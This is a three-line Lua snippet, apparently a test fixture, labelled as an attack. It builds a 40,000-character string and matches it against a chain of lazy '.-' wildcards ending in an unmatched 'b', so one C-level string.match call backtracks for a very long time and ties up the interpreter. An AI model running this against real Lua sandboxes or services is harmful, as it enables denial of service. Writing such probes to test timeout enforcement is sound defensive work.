-- Attack: a backtracking pattern that runs for ages inside one C call.
local s = string.rep("a", 40000)
return s:match(".-.-.-.-.-.-.-b")
